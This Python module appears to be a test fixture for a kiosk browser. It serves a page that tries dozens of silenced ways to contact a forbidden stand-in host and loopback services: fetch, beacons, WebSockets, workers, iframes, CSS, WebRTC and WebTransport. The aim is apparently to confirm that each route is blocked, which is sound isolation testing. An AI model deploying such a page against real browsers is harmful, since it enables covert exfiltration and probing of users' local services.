"""The hostile page: every way in which a page can speak to a host, each with a token of its own.

A token is the last part of an address, a name before the forbidden host (where only a connection
is made), or a port (where no address is sent at all).
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from urllib.parse import quote

from kiosk.demo.pages import Answer, Asked

HOST = "attaque.ilot.test"
FORBIDDEN = "fuite.exercice.test"
DONE = "toutes les routes sont essayées"
HTML = ("Content-Type", "text/html; charset=utf-8")
SCRIPT = ("Content-Type", "text/javascript; charset=utf-8")

BY_ADDRESS = (
    "fetch", "xhr", "fetch-after-302", "fetch-keepalive", "beacon", "event-source", "websocket",
    "worker-fetch", "worker-websocket", "worker-import-scripts",
    "shared-worker-fetch", "shared-worker-websocket",
    "service-worker-fetch", "service-worker-websocket",
    "iframe", "iframe-after-302", "iframe-refresh", "form", "object", "embed",
    "img", "input-image", "svg-image", "video", "audio", "script", "module", "dynamic-import",
    "stylesheet", "css-import", "css-background", "font",
    "prefetch", "modulepreload", "preload", "audio-worklet", "csp-report", "ping",
)  # fmt: skip
INSIDE = ("loopback-fetch", "loopback-img", "loopback-websocket", "loopback-iframe", "loopback-tls")
"""Addresses of this machine, where CUPS and a printer's own page are."""
BY_NAME = ("preconnect",)
BY_PORT = ("stun", "turn-udp", "turn-tcp", "webtransport")
ROUTES = (*BY_ADDRESS, *INSIDE, *BY_NAME, *BY_PORT)


@dataclass(frozen=True, slots=True)
class Ports:
    """Where the forbidden server listens on this machine."""

    tls: int
    plain: int
    stun: int
    turn_udp: int
    turn_tcp: int
    webtransport: int


def tokens(route: str) -> str:
    """Return the forbidden address of a route."""
    return f"https://{FORBIDDEN}/t/{route}"


PAGE = """<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>Routes</title>
<link rel="preconnect" href="https://preconnect.{host}/">
<link rel="stylesheet" href="{t}stylesheet"><link rel="modulepreload" href="{t}modulepreload">
<link rel="prefetch" href="{t}prefetch"><link rel="preload" as="image" href="{t}preload">
<style>@import url("{t}css-import");
@font-face {{ font-family: f; src: url("{t}font"); }}
#font {{ font-family: f; }} #ground {{ background: url("{t}css-background"); }}
</style></head><body><p id="state">attend</p><p id="font">lettres</p><p id="ground">fond</p>
<img src="{t}img"><input type="image" src="{t}input-image">
<svg><image href="{t}svg-image" width="9" height="9"/></svg>
<video src="{t}video" autoplay muted></video><audio src="{t}audio" preload="auto"></audio>
<object data="{t}object" type="image/png"></object><embed src="{t}embed" type="image/png">
<iframe src="{t}iframe"></iframe><iframe src="/saut?{again}iframe-after-302"></iframe>
<iframe srcdoc='<meta http-equiv="refresh" content="0;url={t}iframe-refresh">'></iframe>
<iframe name="answer"></iframe>
<form id="form" method="post" target="answer" action="{t}form"><input name="a" value="b"></form>
<a id="ping" href="#" ping="{t}ping">ping</a>
<script src="{t}script"></script><script type="module" src="{t}module"></script>
<script>
const t = {t_json}, wss = t.replace("https:", "wss:"), ports = {ports};
const quiet = work => {{ try {{ Promise.resolve(work()).catch(() => 0); }} catch (e) {{ }} }};
const far = {{ mode: "no-cors" }};
quiet(() => fetch(t + "fetch", far));
quiet(() => {{ const x = new XMLHttpRequest(); x.open("GET", t + "xhr"); x.send(); }});
quiet(() => fetch("/saut?{again}fetch-after-302", far));
quiet(() => fetch(t + "fetch-keepalive", {{ ...far, keepalive: true, method: "POST", body: "x" }}));
quiet(() => navigator.sendBeacon(t + "beacon", "x"));
quiet(() => new EventSource(t + "event-source"));
quiet(() => new WebSocket(wss + "websocket"));
quiet(() => new Worker("/worker.js"));
quiet(() => new SharedWorker("/shared.js"));
quiet(() => navigator.serviceWorker.register("/service.js"));
quiet(() => import(t + "dynamic-import"));
quiet(() => new AudioContext().audioWorklet.addModule(t + "audio-worklet"));
quiet(() => form.submit());
quiet(() => document.getElementById("ping").click());
quiet(() => fetch(`http://127.0.0.1:${{ports.plain}}/t/loopback-fetch`, far));
quiet(() => {{ new Image().src = `http://127.0.0.1:${{ports.plain}}/t/loopback-img`; }});
quiet(() => new WebSocket(`ws://127.0.0.1:${{ports.plain}}/t/loopback-websocket`));
quiet(() => fetch(`https://127.0.0.1:${{ports.tls}}/t/loopback-tls`, far));
quiet(() => {{
  const frame = document.createElement("iframe");
  frame.src = `http://127.0.0.1:${{ports.plain}}/t/loopback-iframe`;
  document.body.append(frame);
}});
quiet(() => new WebTransport(`https://127.0.0.1:${{ports.webtransport}}/`).ready);
const servers = [
  {{ urls: `stun:127.0.0.1:${{ports.stun}}` }},
  {{ urls: `turn:127.0.0.1:${{ports.turn_udp}}?transport=udp`, username: "u", credential: "p" }},
  {{ urls: `turn:127.0.0.1:${{ports.turn_tcp}}?transport=tcp`, username: "u", credential: "p" }},
];
quiet(async () => {{
  const call = new RTCPeerConnection({{ iceServers: servers }});
  call.createDataChannel("x");
  await call.setLocalDescription(await call.createOffer());
}});
setTimeout(() => document.getElementById("state").textContent = {done}, {milliseconds});
</script></body></html>"""

WORKER = """const t = {t}, wss = t.replace("https:", "wss:");
{before}
fetch(t + "{name}-fetch", {{ mode: "no-cors" }}).catch(() => 0);
new WebSocket(wss + "{name}-websocket");
{after}"""


def page(ports: Ports, *, milliseconds: int) -> bytes:
    """Return the page; it says that it is done after some time."""
    there = tokens("")
    numbers = {name: getattr(ports, name) for name in Ports.__slots__}
    return PAGE.format(
        t=there,
        t_json=json.dumps(there),
        host=FORBIDDEN,
        again=f"to={quote(there, safe='')}",
        ports=json.dumps(numbers),
        done=json.dumps(DONE),
        milliseconds=milliseconds,
    ).encode()


def worker(name: str, *, before: str = "", after: str = "") -> Answer:
    """Return a worker's script."""
    script = WORKER.format(t=json.dumps(tokens("")), name=name, before=before, after=after)
    return Answer(200, script.encode(), (SCRIPT,))


def answer(asked: Asked, ports: Ports, *, milliseconds: int = 6000) -> Answer:
    """Answer for the hostile host."""
    match asked.path:
        case "/":
            policy = f"font-src 'none'; report-uri {tokens('csp-report')}"
            report = ("Content-Security-Policy-Report-Only", policy)
            return Answer(200, page(ports, milliseconds=milliseconds), (HTML, report))
        case "/saut":
            return Answer.elsewhere(asked.query("to"))
        case "/worker.js":
            scripts = (
                f'try {{ importScripts("{tokens("worker-import-scripts")}") }} catch (e) {{ }}'
            )
            return worker("worker", after=scripts)
        case "/shared.js":
            return worker("shared-worker")
        case "/service.js":
            return worker("service-worker", before="self.onfetch = () => 0;")
    return Answer.text(404, "rien")
